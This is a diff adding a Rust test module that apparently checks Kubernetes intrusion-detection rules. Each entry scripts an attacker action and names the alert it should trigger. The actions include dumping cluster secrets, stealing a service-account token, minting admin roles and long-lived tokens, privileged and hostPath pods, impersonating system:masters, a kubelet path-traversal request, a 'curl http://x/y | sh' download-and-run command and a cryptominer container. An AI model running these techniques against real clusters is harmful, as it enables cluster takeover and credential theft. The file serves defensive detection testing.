@@ -1,0 +1,207 @@
+//! What the intruder does, and which rules must say so: pairs of a rule and a part of its alert's key.
+
+use base64::prelude::{BASE64_STANDARD, Engine};
+use rcgen::{CertificateParams, DnType, KeyPair};
+use serde_json::json;
+
+use super::Scene;
+
+pub struct Technique {
+    pub name: &'static str,
+    pub act: fn(&Scene),
+    pub alerts: &'static [(&'static str, &'static str)],
+}
+
+pub const TOKEN: &str = "/var/run/secrets/kubernetes.io/serviceaccount/token";
+
+pub const DEPLOYMENT: &str = r#"
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: web, namespace: shop}
+spec:
+  selector: {matchLabels: {app: web}}
+  template:
+    metadata: {labels: {app: web}}
+    spec: {containers: [{name: web, image: web}]}
+"#;
+
+pub const POD_ON_NODE: &str = r#"
+apiVersion: v1
+kind: Pod
+metadata: {name: web, namespace: shop}
+spec: {nodeName: node-1, containers: [{name: web, image: web}]}
+"#;
+
+fn run(scene: &Scene, arguments: &[&str]) {
+    scene.intruder.run(arguments).success().unwrap();
+}
+
+fn apply(scene: &Scene, manifest: &serde_json::Value) {
+    scene.intruder.stdin(manifest.to_string()).run(&["create", "-f", "-"]).success().unwrap();
+}
+
+/// A command in a pod. The stand-in for a kubelet ends it at once, so that kubectl fails after the request was a success.
+fn exec(scene: &Scene, command: &[&str]) {
+    let mut arguments = vec!["-n", "shop", "exec", "web", "--"];
+    arguments.extend(command);
+    scene.intruder.run(&arguments);
+}
+
+fn sign_and_approve(scene: &Scene, name: &str, common_name: &str) {
+    let mut params = CertificateParams::default();
+    params.distinguished_name.push(DnType::CommonName, common_name);
+    let request = params.serialize_request(&KeyPair::generate().unwrap()).unwrap().pem().unwrap();
+    apply(
+        scene,
+        &json!({
+            "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": name},
+            "spec": {
+                "request": BASE64_STANDARD.encode(request), "usages": ["client auth"],
+                "signerName": "kubernetes.io/kube-apiserver-client",
+            },
+        }),
+    );
+    run(scene, &["certificate", "approve", name]);
+}
+
+fn pod(name: &str, spec: serde_json::Value) -> serde_json::Value {
+    json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": "shop"}, "spec": spec})
+}
+
+#[rustfmt::skip] // a table reads best as one
+pub fn stratus() -> Vec<Technique> {
+    vec![
+        Technique {
+            name: "dump all secrets",
+            act: |scene| run(scene, &["get", "secrets", "-A", "-o", "json"]),
+            alerts: &[("secrets-listed-cluster-wide", "mallory")],
+        },
+        Technique {
+            name: "steal a pod's service account token",
+            act: |scene| exec(scene, &["cat", TOKEN]),
+            alerts: &[("exec-takes-credentials", "mallory shop/web"), ("exec-into-pod", "mallory shop")],
+        },
+        Technique {
+            name: "create an admin ClusterRole",
+            act: |scene| {
+                run(scene, &["create", "clusterrole", "omni", "--verb=*", "--resource=*.*"]);
+                run(scene, &["-n", "kube-system", "create", "serviceaccount", "omni"]);
+                run(scene, &["create", "clusterrolebinding", "omni", "--clusterrole=omni", "--serviceaccount=kube-system:omni"]);
+                run(scene, &["-n", "kube-system", "create", "token", "omni"]);
+            },
+            alerts: &[
+                ("role-with-wildcards-written", "mallory omni"),
+                ("service-account-in-system-namespace", "mallory omni"),
+                ("token-of-system-account-requested", "mallory omni"),
+            ],
+        },
+        Technique {
+            name: "create a client certificate credential",
+            act: |scene| sign_and_approve(scene, "own", "system:kube-controller-manager"),
+            alerts: &[
+                ("certificate-for-system-identity-requested", "mallory own"),
+                ("certificate-approved-by-person", "mallory own"),
+                ("own-certificate-approved", "mallory own"),
+            ],
+        },
+        Technique {
+            name: "create a long-lived token",
+            act: |scene| run(scene, &["-n", "kube-system", "create", "token", "clusterrole-aggregation-controller", "--duration=87600h"]),
+            alerts: &[
+                ("long-lived-token-requested", "mallory kube-system/clusterrole-aggregation-controller"),
+                ("token-of-system-account-requested", "mallory clusterrole-aggregation-controller"),
+            ],
+        },
+        Technique {
+            name: "mount the node's file system by a hostPath volume",
+            act: |scene| apply(scene, &pod("host", json!({
+                "containers": [{"name": "a", "image": "a", "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
+                "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
+            }))),
+            alerts: &[("privileged-pod-created", "mallory shop hostPath")],
+        },
+        Technique {
+            name: "escalate through nodes/proxy",
+            act: |scene| {
+                run(scene, &["create", "clusterrole", "proxy", "--verb=get,create", "--resource=nodes/proxy"]);
+                run(scene, &["get", "--raw", "/api/v1/nodes/node-1/proxy/runningpods/"]);
+            },
+            alerts: &[("role-with-dangerous-access-written", "mallory proxy"), ("kubelet-reached-through-api-server", "mallory node-1")],
+        },
+        Technique {
+            name: "run a privileged pod",
+            act: |scene| run(scene, &["-n", "shop", "run", "root", "--image=busybox", "--privileged"]),
+            alerts: &[("privileged-pod-created", "mallory shop privileged")],
+        },
+    ]
+}
+
+#[rustfmt::skip]
+pub fn detours() -> Vec<Technique> {
+    vec![
+        Technique {
+            name: "a JSON patch of a Deployment",
+            act: |scene| run(scene, &["-n", "shop", "patch", "deployment", "web", "--type=json", "-p",
+                r#"[{"op": "add", "path": "/spec/template/spec/hostPID", "value": true}]"#]),
+            alerts: &[("privileged-pod-created", "mallory shop hostPID")],
+        },
+        Technique {
+            name: "a strategic merge patch of it",
+            act: |scene| run(scene, &["-n", "shop", "patch", "deployment", "web", "-p",
+                r#"{"spec": {"template": {"spec": {"containers": [{"name": "web", "securityContext": {"capabilities": {"add": ["CAP_SYS_ADMIN"]}}}]}}}}"#]),
+            alerts: &[("dangerous-capabilities-added", "mallory shop")],
+        },
+        Technique {
+            name: "a server-side apply",
+            act: |scene| {
+                let manifest = pod("applied", json!({"containers": [{"name": "a", "image": "a", "command": ["sh", "-c", "curl http://x/y | sh"]}]}));
+                scene.intruder.stdin(manifest.to_string()).run(&["apply", "--server-side", "-f", "-"]).success().unwrap();
+            },
+            alerts: &[("container-downloads-and-runs", "mallory shop")],
+        },
+        Technique {
+            name: "an ephemeral container",
+            act: |scene| run(scene, &["-n", "shop", "patch", "pod", "web", "--subresource=ephemeralcontainers", "-p",
+                r#"{"spec": {"ephemeralContainers": [{"name": "d", "image": "xmrig/xmrig"}]}}"#]),
+            alerts: &[("ephemeral-container-added", "mallory shop"), ("cryptominer-created", "mallory shop")],
+        },
+        Technique {
+            name: "secrets by a watch on the old path",
+            act: |scene| { scene.intruder.run(&["get", "--raw", "/api/v1/watch/secrets?timeoutSeconds=1"]); },
+            alerts: &[("secrets-listed-cluster-wide", "mallory")],
+        },
+        Technique {
+            name: "acting as a controller",
+            act: |scene| run(scene, &["get", "secret", "db", "-n", "shop", "--as=system:serviceaccount:kube-system:clusterrole-aggregation-controller",
+                "--as-group=system:masters"]),
+            alerts: &[("privileged-identity-impersonated", "mallory system:serviceaccount:kube-system:clusterrole-aggregation-controller")],
+        },
+        Technique {
+            name: "a subject added to a binding by a JSON patch",
+            act: |scene| run(scene, &["patch", "clusterrolebinding", "system:discovery", "--type=json", "-p",
+                r#"[{"op": "add", "path": "/subjects/-", "value": {"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "system:unauthenticated"}}]"#]),
+            alerts: &[("anonymous-access-granted", "mallory system:discovery"), ("default-role-changed", "mallory clusterrolebindings system:discovery")],
+        },
+        Technique {
+            name: "Pod Security taken away by a JSON patch",
+            act: |scene| {
+                run(scene, &["label", "namespace", "shop", "pod-security.kubernetes.io/enforce=restricted"]);
+                run(scene, &["patch", "namespace", "shop", "--type=json", "-p", r#"[{"op": "remove", "path": "/metadata/labels"}]"#]);
+            },
+            alerts: &[("pod-security-lowered", "mallory shop")],
+        },
+        Technique {
+            name: "a volume of the node's directory",
+            act: |scene| apply(scene, &json!({
+                "apiVersion": "v1", "kind": "PersistentVolume", "metadata": {"name": "root"},
+                "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/etc"}},
+            })),
+            alerts: &[("node-directory-as-volume", "mallory root")],
+        },
+        Technique {
+            name: "a kubelet's commands by a request without a body",
+            act: |scene| { scene.intruder.run(&["get", "--raw", "/api/v1/nodes/https:node-1:/proxy/metrics/..%2Frun%2Fshop%2Fweb%2Fweb"]); },
+            alerts: &[("kubelet-reached-through-api-server", "mallory https:node-1:")],
+        },
+    ]
+}
